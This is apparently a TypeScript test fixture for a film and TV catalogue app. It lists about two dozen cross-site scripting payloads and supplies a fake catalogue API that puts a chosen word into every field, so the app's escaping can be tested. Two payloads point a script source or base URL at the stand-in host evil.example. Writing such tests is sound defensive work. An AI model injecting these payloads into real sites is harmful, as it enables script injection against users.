/** What strangers may write into a catalogue that anyone can edit: attempts to become script on our pages. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><script src=//evil.example></script>',
  '<!--<script>alert(1)//-->',
  ']]><script>alert(1)</script><![CDATA[',
  'javascript:alert(1)',
  'JaVaScRiPt\t:alert(1)//http://',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}<%= 7*7 %>#{7*7}',
  '\u2028</script><script>alert(1)</script>\u2029',
  '\u202e<b onmouseover=alert(1)>tpircs',
  '\u0000<script\u0000>alert(1)</script>',
  '\ufeff＜script＞<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<i>',
  '&#60;img src=x onerror=alert(1)&#62;&quot;onfocus=alert(1) autofocus&quot;',
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '` onclick=alert(1) `',
  '<a href="javascript:alert(1)">x</a></main></body></html><p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href=//evil.example>',
  '$& $` $\' $1 \\u003cscript\\u003e \\"><style>*{x:expression(alert(1))}</style>',
];

/** A word that no reader could mistake for anything else. */
export const harmless = 'Plain';

const picture = '/picture.jpg';

const listed = (word: string, mediaType: 'movie' | 'tv', id: number, path: string | null = picture) => ({
  id,
  media_type: mediaType,
  adult: false,
  title: word,
  name: word,
  original_title: word,
  original_name: word,
  original_language: word,
  overview: word,
  release_date: '2026-01-02',
  first_air_date: '2026-01-02',
  poster_path: path,
  backdrop_path: path,
  vote_average: 7.5,
  vote_count: 1000,
  genre_ids: [28, 10759],
});

/** Entries whose every text is the word; the last ones also have it where a date, a picture or a type belongs. */
const entries = (word: string) => [
  listed(word, 'movie', 1),
  listed(word, 'tv', 2),
  listed(word, 'movie', 3, word),
  { ...listed(word, 'movie', 4), release_date: word, first_air_date: word },
  { ...listed(word, 'movie', 5), media_type: word },
];

const known = (word: string) => ({ id: 7, media_type: 'person', name: word, known_for: entries(word) });

const listAnswer = (word: string) => ({
  page: 1,
  total_pages: 3,
  total_results: 60,
  results: [...entries(word), known(word)],
});

const personAnswer = (word: string) => ({
  ...known(word),
  biography: word,
  combined_credits: { cast: entries(word), crew: entries(word).map((entry) => ({ ...entry, job: word })) },
});

const detailsAnswer = (word: string, mediaType: 'movie' | 'tv', id: number) => ({
  ...listed(word, mediaType, id),
  tagline: word,
  status: word,
  homepage: word,
  runtime: 100,
  episode_run_time: [50],
  imdb_id: word,
  external_ids: { imdb_id: word },
  genres: [{ id: 28, name: word }],
  production_companies: [
    { name: word, logo_path: picture },
    { name: `${word} `, logo_path: word },
  ],
  created_by: [{ name: word }],
  seasons: [{ season_number: 1, name: word, episode_count: 3, air_date: word, poster_path: word, overview: word }],
  videos: {
    results: [
      { key: word, name: word, site: 'YouTube', type: 'Trailer', official: true },
      { key: 'abcdefghijk', name: word, site: 'YouTube', type: 'Trailer', official: false },
    ],
  },
  credits: {
    cast: [
      { name: word, character: word, profile_path: picture },
      { name: word, character: `${word} `, profile_path: word },
    ],
    crew: [{ name: word, job: 'Director' }],
  },
  recommendations: listAnswer(word),
  similar: listAnswer(word),
});

/** The catalogue as it would be had a stranger written the word into every field of it. */
export function strangersCatalogue(word: string): typeof fetch {
  return async (input) => {
    const path = new URL(input instanceof Request ? input.url : String(input)).pathname.replace(/^\/3/, '');
    const [, first, second] = path.split('/');
    if (first === 'person') return Response.json(personAnswer(word));
    const isTitle = (first === 'movie' || first === 'tv') && /^\d+$/.test(second ?? '');
    return Response.json(isTitle ? detailsAnswer(word, first, Number(second)) : listAnswer(word));
  };
}
